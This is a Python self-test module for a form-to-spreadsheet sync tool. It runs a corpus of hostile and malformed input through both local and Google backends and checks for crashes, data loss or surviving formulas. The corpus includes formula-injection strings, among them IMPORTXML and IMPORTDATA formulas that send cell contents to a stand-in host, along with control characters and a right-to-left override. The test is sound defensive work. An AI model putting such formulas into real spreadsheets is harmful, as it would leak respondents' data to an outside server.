"""Check 4: hostile and broken input (a fixed corpus and hypothesis), on both backends."""

from __future__ import annotations

import tempfile
from datetime import datetime
from pathlib import Path
from typing import Any

from config.settings import Settings
from rules.complaint import FIELDS
from rules.errors import SapaError
from sync.cycle import run_cycle
from sync.selftest.common import (
    RESPONSES_TAB,
    all_accounted,
    make_ctx,
)

# --- 4. hostile input ---------------------------------------------------------------------------

_HOSTILE = [
    "=1+1", "+SUM(1)", "-2+3", "@x", "\t=1", "\r=1", "\n=1",
    '=IMPORTXML("http://contoh.invalid/?d="&A2, "//a")', '=IMPORTDATA("http://contoh.invalid/x.csv")',
    '=HYPERLINK("http://contoh.invalid","klik")', "x" * 50_001, "Korban 😀 محمد 王小明 Ñandú",
    "a\x00b\x07c\x1bd", "{{victim_name}}", "\u202e=1",
]


def _hostile_rows() -> list[dict[str, object]]:
    from tests.backends import response_row

    rows: list[dict[str, object]] = []
    text_fields = [f for f in FIELDS if f != "timestamp"]
    for i, value in enumerate(_HOSTILE):
        field = text_fields[i % len(text_fields)]
        rows.append(response_row(**{field: value, "story": value, "victim_name": f"{value[:80]} {i}"}))
    rows.append({f: None for f in FIELDS} | {"timestamp": datetime(2026, 11, 28, 9, 45)})  # blank answers
    return rows


def _layouts() -> dict[str, list[list[object]]]:
    """Whole responses tabs (header + rows): the corpus, and broken structures."""
    questions = Settings().form.questions
    header: list[object] = [questions[f] for f in FIELDS]

    def grid(rows: list[dict[str, object]], order: list[str] | None = None,
             extra: bool = False) -> list[list[object]]:
        fields = order or list(FIELDS)
        head: list[object] = [*(questions[f] for f in fields), *(["Pertanyaan tambahan"] if extra else [])]
        body = [[None if r.get(f) == "" else r.get(f) for f in fields] + (["jawaban"] if extra else [])
                for r in rows]
        return [head, *body]

    rows = _hostile_rows()
    reordered = list(reversed(FIELDS))
    missing = [f for f in FIELDS if f not in ("victim_name", "story")]
    return {
        "corpus": [*grid(rows[:8]), [None] * len(FIELDS), *grid(rows[8:])[1:]],
        "reordered+extra": grid(rows[:5], reordered, extra=True),
        "missing column": grid(rows[:5], missing),
        "duplicate header": [[*header, header[1]], *[[*r, "dup"] for r in grid(rows[:5])[1:]]],
    }


def hostile_input() -> tuple[str, bool]:
    from openpyxl import Workbook

    from sync.bench import BUSY_AT
    from tests.backends import GoogleBackend, LocalBackend, google_spreadsheet

    ctx = make_ctx()
    ok_runs, notes, formulas, total = 0, [], 0, 0
    for label, data in _layouts().items():
        for kind in ("local", "google"):
            total += 1
            with tempfile.TemporaryDirectory() as tmp:
                backend: Any
                if kind == "local":
                    backend = LocalBackend(Path(tmp))
                    book = Workbook()
                    sheet = book.active
                    assert sheet is not None
                    sheet.title = RESPONSES_TAB
                    for r, row in enumerate(data, start=1):
                        for c, value in enumerate(row, start=1):
                            if isinstance(value, str):
                                from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

                                value = ILLEGAL_CHARACTERS_RE.sub("", value)[:32767]
                            cell = sheet.cell(row=r, column=c)
                            cell.value = value
                            if isinstance(value, str):
                                cell.data_type = "s"
                    book.save(backend.path)
                else:
                    backend = GoogleBackend(Path(tmp))
                    backend.spreadsheet_id = google_spreadsheet(backend.double, RESPONSES_TAB, data)
                message = ""
                try:
                    run_cycle(backend.store(), ctx, BUSY_AT, backend.writer())
                    stable = not run_cycle(backend.store(), ctx, BUSY_AT, backend.writer()).plan
                    tables = {t: backend.tab(t) for t in backend.tabs()}
                    accounted = all_accounted(tables, ctx, BUSY_AT)
                except SapaError as err:  # a structural problem, said clearly
                    message = str(err)
                    stable, accounted = True, bool(message) and "Traceback" not in message
                bad = [c for c in backend.cells() if c[2]]
                formulas += len(bad)
                if stable and accounted and not bad:
                    ok_runs += 1
                else:
                    notes.append(f"{label}/{kind}: stable={stable} accounted={accounted} formulas={len(bad)}")
    figure = f"hostile input: {ok_runs}/{total} inputs x backends without crash, loss or formula ({formulas} formulas)"
    if notes:
        figure += "; " + "; ".join(notes[:4])
    return figure, ok_runs == total
